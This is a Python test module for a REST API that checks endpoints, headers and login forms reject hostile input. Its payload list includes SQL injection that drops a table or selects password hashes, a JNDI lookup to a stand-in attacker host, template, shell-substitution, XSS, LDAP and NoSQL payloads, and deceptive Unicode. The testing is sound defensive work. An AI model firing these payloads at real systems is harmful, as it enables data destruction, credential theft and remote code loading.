"""Texts, numbers and dates that mean to be something else, wherever the REST door takes one."""

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from tests.access.samples import DAY
from tests.hostile.cases import Case, put_raw, read, send
from tests.hostile.world import CHAIR, Ground

REHEARSED = "?validate_only=true"
PERSONS, HOUSEHOLDS = f"/v1/persons{REHEARSED}", f"/v1/households{REHEARSED}"
STATEMENTS = (
    "'",
    "''",
    "' or '1'='1",
    "' or 1=1--",
    '" or ""="',
    "'; drop table persons; --",
    "') union select password_hash from credentials --",
    "x' and (select pg_sleep(60)) is null --",
    "$1",
    "$$; select 1; $$",
    "\\'; select 1",
    "E'\\x27'",
    "id;select 1",
    "id) from accounts --",
    "name'::text",
    "1/(select 0)",
    "/*",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<script>alert(1)</script>",
    "%(name)s %s %n",
    "{0.__class__}",
    "`id`",
    "$(id)",
    "|id",
    "*)(uid=*",
    "' || '1'=='1",
    "{$gt: ''}",
    "__proto__",
    "__class__",
)
"""Words that are a statement, a template, a command or a member to whoever puts texts together."""
PLACES = (
    ("households?sort={}", {400}),
    ("households?fields={}", {400}),
    ("households?expand={}", {400}),
    ("households?fields=group.{}", {400}),
    ("households?cursor=n{}", {400}),
    ("households?cursor={}", {400}),
    ("households?limit={}", {400}),
    ("households?count={}", {400}),
    ("households?format={}", {400}),
    ("households?as_of={}", {400}),
    ("households?known_at={}", {400}),
    ("households?group_id={}", {400}),
    ("households?presence={}", {400}),
    ("households?{}=1", {400}),
    ("households/{}", {404}),
    ("households/{}/history", {404}),
    ("households/{}/transitions", {404}),
    ("import-templates/{}", {404}),
    ("access/explain?permission={}", {400}),
)
"""Where a text has a form that none of these has."""
SEARCHED = ("households?q={}", "persons?q={}", "groups?q={}", "households?code={}", "papers?number={}")
"""Where any text may be looked for: what finds nothing must find nothing."""


def injections(_ground: Ground) -> Iterator[Case]:
    """Statements and templates in every place that takes a text."""
    for text in STATEMENTS:
        for place, statuses in PLACES:
            yield read(f"{text} in {place}", f"/v1/{place.format(quote(text, safe=''))}", *statuses)
        for place in SEARCHED:
            # What folding leaves of a text may be nothing, or one digit that stands in addresses.
            wide = not any(sign.isalpha() for sign in text)
            yield read(f"{text} in {place}", f"/v1/{place.format(quote(text))}", 200, empty=not wide)
        for header in ("If-None-Match", "X-Purpose", "Accept-Language", "traceparent", "X-Request-Id"):
            yield read(f"{text} in {header}", "/v1/groups/<group>", 200, headers=((header, text),))
        yield send(f"{text} as a name", PERSONS, _person(text), 200, user=CHAIR)
        yield send(f"{text} as an id", PERSONS, {**_person("A"), "territory_id": text}, 404, 422, user=CHAIR)
        yield send(f"{text} as a kind", HOUSEHOLDS, {"kind": text}, 422, code="invalid-body")
        yield send(f"{text} signs in", "/v1/auth/login", {"username": text, "password": text}, 401, user="")
        yield send(f"{text} refreshes", "/v1/auth/refresh", {"refresh_token": text}, 401, user="")
    for text in ("%", "_", "%%%", "%_%", "\\", "*", "?", "."):
        yield read(f"{text} is no wildcard", f"/v1/households?code={quote(text)}", 200, empty=True)
        yield read(f"{text} is no wildcard", f"/v1/persons?q=zz{quote(text)}zz", 200, empty=True)


def _person(name: Any) -> dict[str, Any]:
    return {"territory_id": "<hamlet>", "full_name": name, "lawful_basis": "consent", "notice_on": DAY}


def disguises(_ground: Ground) -> Iterator[Case]:
    """Unicode that deceives the reader is refused; what is only another spelling is taken."""
    for name, text in (
        ("NUL", "Lê\u0000Văn"),
        ("escape", "Lê\u001b[2J"),
        ("backspace", "Lê\b\b\bVăn"),
        ("delete", "Lê\u007f"),
        ("a C1 control", "Lê\u0085Văn\u009b"),
        ("right-to-left override", "Lê \u202eăV nễyugN"),
        ("left-to-right embedding", "Lê\u202a"),
        ("isolate", "Lê\u2066Văn\u2069"),
        ("nothing but zero widths", "\u200b\u200b\ufeff"),
        ("nothing but blanks", " \t\n "),
        ("nothing", ""),
        ("too long", "ă" * 300),
        ("too long by emoji", "😀" * 300),
        ("a megabyte", "ă" * 400_000),
    ):
        yield send(f"{name} in a name", PERSONS, _person(text), 422, user=CHAIR, code="invalid-body")
        if len(text) < 100:
            yield read(f"{name} in a search", f"/v1/persons?q={quote(text)}", 400)
            yield read(f"{name} in a filter", f"/v1/persons/{quote(text) or '%20'}", 404)
    for name, text in (
        ("NFC", "Lê Thị Hường"),
        ("NFD", "Le\u0302 Thi\u0323 Hu\u031bo\u031b\u0300ng"),
        ("Icelandic eth", "\u00d0\u1eb7ng V\u0103n \u00d0\u1ee9c"),
        ("Cyrillic look-alikes", "\u041d\u0433\u0443\u0443\u0435n"),
        ("full width", "\uff2c\uff45"),
        ("emoji", "Tổ 😀"),
        ("a private character", "\ue000\U000f0000"),
        ("a noncharacter", "a\uffff"),
        ("a thousand marks", "e" + "\u0301" * 150),
        ("a zero width inside", "Lê\u200bVăn"),
    ):
        yield send(f"{name} in a name", PERSONS, _person(text), 200, 422, user=CHAIR)
        yield read(f"{name} in a search", f"/v1/persons?q={quote(text)}", 200)
    start = b'{"territory_id":"x","full_name":"'
    for name, raw in (
        ("a lone high surrogate", b"\\ud800"),
        ("a lone low surrogate", b"\\udc00"),
        ("surrogates turned", b"\\udc00\\ud800"),
        ("a surrogate in UTF-8", b"\xed\xa0\x80"),
        ("an overlong slash", b"\xc0\xaf"),
        ("an overlong NUL", b"\xc0\x80"),
        ("invalid UTF-8", b"\xff\xfe"),
        ("cut UTF-8", b"\xe1\xba"),
        ("beyond Unicode", b"\xf4\x90\x80\x80"),
        ("latin-1", "Lê".encode("latin-1")),
        ("a bare control", b"a\x01b"),
    ):
        yield put_raw(f"{name} in JSON", PERSONS, start + raw + b'"}', 400, 422, user=CHAIR)
        yield read(f"{name} in a search", f"/v1/persons?q={quote(raw)}", 200 if raw[:1] == b"\\" else 400)


NUMBERS = (
    "1e400",
    "-1e400",
    "1" + "0" * 400,
    "9" * 5_000,
    "-9223372036854775809",
    "1.5",
    "NaN",
    "Infinity",
    "-0.1",
    '"3"',
)
DAYS = (
    "0000-01-01",
    "0000-00-00",
    "2026-02-30",
    "2025-02-29",
    "2026-13-01",
    "-2026-01-01",
    "+2026-01-01",
    "99999-01-01",
    "2026-1-1",
    "2026-01-01T00:00:00Z",
    "20260101",
    "2026-W01-1",
    "01/02/2026",
    "infinity",
    "-infinity",
    "now",
    "today",
    "epoch",
    "null",
    "\uff12\uff10\uff12\uff16-01-01",
    "\u0662\u0660\u0662\u0666-01-01",
)
MOMENTS = (
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+23:59",
    "2026-01-01T00:00:00",
    "2026-01-01T25:00:00Z",
    "2026-01-01T00:00:00+99:00",
    "9" * 18,
    "9" * 19,
    "-1",
    "infinity",
)


def shapes(_ground: Ground) -> Iterator[Case]:
    """Numbers, dates and shapes at and beyond every edge."""
    register = '{"kind":"register","effective_on":"%s","dwelling":{"territory_id":"x"},"people":%s}'
    for number in NUMBERS:
        yield put_raw(f"people {number[:20]}", HOUSEHOLDS, (register % (DAY, number)).encode(), 400, 422)
        yield read(f"limit {number[:20]}", f"/v1/groups?limit={number}", 400)
        yield read(f"number {number[:20]}", f"/v1/groups?number={number}", 400)
        yield read(f"offset {number[:20]}", f"/v1/changes?after_position={number}", 400)
    for day in DAYS:
        yield read(f"as of {day}", f"/v1/groups?as_of={quote(day)}", 400)
        yield read(f"as of {day}", f"/v1/groups/<group>?as_of={quote(day)}", 400)
        yield read(f"since {day}", f"/v1/restructurings?since={quote(day)}", 400)
        yield put_raw(f"effective on {day}", HOUSEHOLDS, (register % (day, 3)).encode(), 422)
    for day in ("0001-01-01", "9999-12-31", "1582-10-10"):
        yield read(f"as of {day}", f"/v1/groups?as_of={day}&limit=1", 200)
        yield read(f"as of {day}", f"/v1/households?as_of={day}&format=csv&within=<hamlet>", 200)
        yield put_raw(f"effective on {day}", HOUSEHOLDS, (register % (day, 3)).encode(), 404, 409, 422)
    for moment in MOMENTS:
        yield read(f"known at {moment}", f"/v1/groups?known_at={quote(moment)}", 400)
    for name, body in (
        ("an array", []),
        ("a text", "register"),
        ("a number", 1),
        ("true", True),
        ("an array of bodies", [_person("A")]),
        ("a list for a text", _person(["A"])),
        ("an object for a text", _person({"$ne": None})),
        ("null for a text", _person(None)),
        ("a number for a text", _person(1)),
        ("true for a text", _person(name=True)),
        ("an object for an id", {**_person("A"), "territory_id": {"$oid": "x"}}),
        ("a list for an id", {**_person("A"), "territory_id": ["<hamlet>"]}),
    ):
        yield send(f"{name} as the body", PERSONS, body, 422, user=CHAIR, code="invalid-body")
    for query in (
        "limit=1&limit=2",
        "sort=code&sort=-code",
        "as_of=2026-01-01&as_of=2026-01-02",
        "fields=id&fields=code",
    ):
        yield read(f"twice: {query}", f"/v1/households?{query}", 400)
    for query in (
        "limit[]=1",
        "limit[$gt]=1",
        "fields[0]=id",
        "LIMIT=1",
        "limit%00=1",
        "%6cimit=0",
        ";limit=1",
        "limit",
    ):
        yield read(f"a query as {query}", f"/v1/households?{query}", 400)
